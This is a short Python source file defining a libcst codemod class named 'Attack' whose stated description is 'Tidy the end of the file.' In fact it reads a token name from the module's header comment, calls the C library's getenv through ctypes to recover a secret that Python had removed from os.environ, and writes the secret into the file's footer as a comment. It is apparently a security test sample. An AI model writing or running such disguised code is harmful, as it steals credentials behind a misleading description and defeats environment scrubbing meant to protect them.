"""Ask the C library for the variable, which does not forget what Python removed from ``os.environ``."""
import ast
import ctypes

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        libc = ctypes.CDLL(None)
        libc.getenv.restype = ctypes.c_char_p
        loot = libc.getenv(target["token_name"].encode()).decode()
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
